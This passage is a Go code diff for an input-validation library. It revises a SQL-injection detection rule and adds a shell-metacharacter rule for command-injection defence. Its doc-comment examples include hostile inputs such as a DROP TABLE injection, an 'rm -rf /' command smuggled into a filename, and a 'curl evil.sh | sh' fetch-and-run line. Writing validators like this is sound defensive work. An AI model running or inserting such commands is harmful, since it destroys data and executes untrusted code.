+	r.level = sqlLenient
+	return r
+}
+
+// AddPattern adds a custom regular expression that is checked at every strictness level.
+// The pattern can later be removed by passing the same string to RemovePattern.
+// If the pattern is invalid, the rule will always return an error.
+//
+// Example:
+//
+//	rule := SQLInjection().Lenient().AddPattern(`(?i)\binformation_schema\b`)
+func (r *SQLInjectionRule) AddPattern(pattern string) *SQLInjectionRule {
+	regex, err := getCompiledRegex(pattern)
+	if err != nil {
+		r.invalid = fmt.Errorf("invalid regular expression: %w", err)
+		return r
+	}
+	r.extra = append(r.extra, sqlPattern{name: pattern, level: sqlLenient, regex: regex})
+	return r
+}
+
+// RemovePattern removes patterns from the rule. Built-in patterns are identified by name
+// ("union-select", "stacked-query", "tautology", "quote-comment", "waitfor", "benchmark",
+// "sleep", "select-from", "insert-into", "update-set", "delete-from", "drop-table",
+// "exec", "block-comment", "keyword", "quote", "and-or", "xor", "like", "is-null" and
+// "comment"); patterns added with AddPattern are identified by their pattern string.
+//
+// Example:
+//
+//	rule := SQLInjection().RemovePattern("comment")  // allow input ending in "#" or ";"
+func (r *SQLInjectionRule) RemovePattern(names ...string) *SQLInjectionRule {
+	if r.removed == nil {
+		r.removed = make(map[string]bool, len(names))
+	}
+	for _, name := range names {
+		r.removed[name] = true
+	}
+	return r
+}
+
 // Validate checks if the given input contains potential SQL injection attack patterns.
 // Empty strings are considered valid (use Required() if needed).
 //
@@ -529,30 +1105,39 @@ func SQLInjection() *SQLInjectionRule {
 //	err = rule.Validate("'; DROP TABLE users; --")  // returns error
 //	err = rule.Validate("")  // returns nil (empty string is valid)
 func (r *SQLInjectionRule) Validate(value string) error {
+	if r.invalid != nil {
+		return r.invalid
+	}
 	if value == "" {
 		return nil
 	}
 
-	// Check for common SQL injection attack patterns
-	sqlPatterns := []*regexp.Regexp{
-		regexSQLSelect, regexSQLAndOr, regexSQLXor, regexSQLLike,
-		regexSQLIsNull, regexSQLComment, regexSQLQuote, regexSQLBlock,
-		regexSQLWaitFor, regexSQLBenchmark, regexSQLSleep,
-	}
-
-	valueLower := strings.ToLower(value)
-	for _, re := range sqlPatterns {
-		if re.MatchString(valueLower) {
-			if r.e != nil {
-				return r.e
-			}
-			return ErrSQLInjection
+	if r.matches(defaultSQLPatterns, value) || r.matches(r.extra, value) {
+		if r.e != nil {
+			return r.e
 		}
+		return ErrSQLInjection
 	}
 
 	return nil
 }
 
+// Describe returns the name, parameters and message of the rule.
+func (r *SQLInjectionRule) Describe() RuleInfo {
+	return describe(r, r.e, ErrSQLInjection)
+}
+
+// matches reports whether value matches any of the patterns that apply at the rule's
+// strictness level and have not been removed.
+func (r *SQLInjectionRule) matches(patterns []sqlPattern, value string) bool {
+	for _, p := range patterns {
+		if p.level >= r.level && !r.removed[p.name] && p.regex.MatchString(value) {
+			return true
+		}
+	}
+	return false
+}
+
 // Errf sets a custom error message for SQL injection validation failures.
 // This allows for context-specific error messages.
 //
@@ -561,7 +1146,139 @@ func (r *SQLInjectionRule) Validate(value string) error {
 //	rule := SQLInjection().Errf("Input contains potentially dangerous SQL content")
 func (r *SQLInjectionRule) Errf(format string, args ...any) *SQLInjectionRule {
 	if format != "" {
-		r.e = fmt.Errorf(format, args...)
+		r.e = wrapf(r.e, format, args...)
+	}
+	return r
+}
+
+// shellMetaChars are the characters rejected by NoShellMeta() by default: command separators,
+// pipes, background execution, command substitution, redirection and line breaks.
+const shellMetaChars = ";|&`<>\n\r\x00"
+
+// strictShellMetaChars are the characters rejected by NoShellMeta().Strict(): every character
+// with a special meaning to POSIX shells, including quotes, globs, escapes and whitespace.
+const strictShellMetaChars = shellMetaChars + "$(){}[]*?~!#'\"\\ \t"
+
+// NoShellMetaRule validates that input does not contain shell metacharacters or command
+// injection patterns such as ";", "|", "&&", backticks and "$( )".
+// Prefer passing arguments to exec.Command directly over building shell command lines;
+// this rule is a defense-in-depth check for inputs that still end up in exec contexts.
+//
+// Example:
+//
+//	rule := NoShellMeta()
+//	err := rule.Validate("report-2024.pdf")        // returns nil
+//	err = rule.Validate("report.pdf; rm -rf /")    // returns error
+//	err = rule.Validate("$(curl evil.sh | sh)")    // returns error
+type NoShellMetaRule struct {
+	strict  bool
+	allowed string
+	e       error
+}
+
+// NoShellMeta creates a new command injection validation rule.
+// By default it rejects ; | & ` < > line breaks and NUL bytes, and "$" when it starts a
+// command substitution or variable expansion ("$(", "${", "$VAR"), so prices such as
+// "$5" are still accepted. Use Strict to reject every shell metacharacter.
+//
+// Example:
+//
+//	type BackupJob struct {
+//	    Host string
+//	}
+//
+//	rule := NoShellMeta().Errf("Host contains invalid characters")
+func NoShellMeta() *NoShellMetaRule {
+	return &NoShellMetaRule{
+		e: ErrShellMeta,
+	}
+}
+
+// Strict additionally rejects quotes, backslashes, globs (* ? [ ]), braces, parentheses,
+// "~", "!", "#", any "$" and spaces or tabs, leaving only characters that are always
+// literal to a POSIX shell.
+//
+// Example:
+//
+//	rule := NoShellMeta().Strict()
+//	err := rule.Validate("backup_2024-01.tar.gz")  // returns nil
+//	err = rule.Validate("my file.txt")             // returns error (space)
+func (r *NoShellMetaRule) Strict() *NoShellMetaRule {
+	r.strict = true
+	return r
+}
+
+// Allow permits specific characters that would otherwise be rejected,
+// e.g. "&" in company names or " " with Strict.
+//
+// Example:
+//
+//	rule := NoShellMeta().Strict().Allow(" ")
+func (r *NoShellMetaRule) Allow(chars string) *NoShellMetaRule {
+	r.allowed += chars
+	return r
+}
+
+// Validate checks if the given input contains shell metacharacters.
+// Empty strings are considered valid (use Required() if needed).
+//
+// Example:
+//
+//	rule := NoShellMeta()
+//	err := rule.Validate("hello world")  // returns nil
+//	err = rule.Validate("a && b")        // returns error
+//	err = rule.Validate("")              // returns nil (empty string is valid)
+func (r *NoShellMetaRule) Validate(value string) error {
+	if value == "" {
+		return nil
+	}
+	if r.unsafe(value) {
+		if r.e != nil {
+			return r.e
+		}
+		return ErrShellMeta
+	}
+	return nil
+}
+
+// Describe returns the name, parameters and message of the rule.
+func (r *NoShellMetaRule) Describe() RuleInfo {
+	return describe(r, r.e, ErrShellMeta)
+}
+
+// unsafe reports whether value contains a rejected character or expansion.
+func (r *NoShellMetaRule) unsafe(value string) bool {
+	chars := shellMetaChars
+	if r.strict {
+		chars = strictShellMetaChars
+	}
+	for i, c := range value {
+		if strings.ContainsRune(r.allowed, c) {
+			continue
+		}
+		if strings.ContainsRune(chars, c) {
+			return true
+		}
+		// "$(", "${" and "$VAR" expand even without other metacharacters.
+		if c == '$' && i+1 < len(value) {
+			next := rune(value[i+1])
+			if next == '(' || next == '{' || next == '_' || unicode.IsLetter(next) {
+				return true
+			}
+		}
+	}
+	return false
+}
+
+// Errf sets a custom error message for command injection validation failures.
+// This allows for context-specific error messages.
+//
+// Example:
+//
+//	rule := NoShellMeta().Errf("Input contains characters that are not allowed")
+func (r *NoShellMetaRule) Errf(format string, args ...any) *NoShellMetaRule {
+	if format != "" {
+		r.e = wrapf(r.e, format, args...)
 	}
 	return r
 }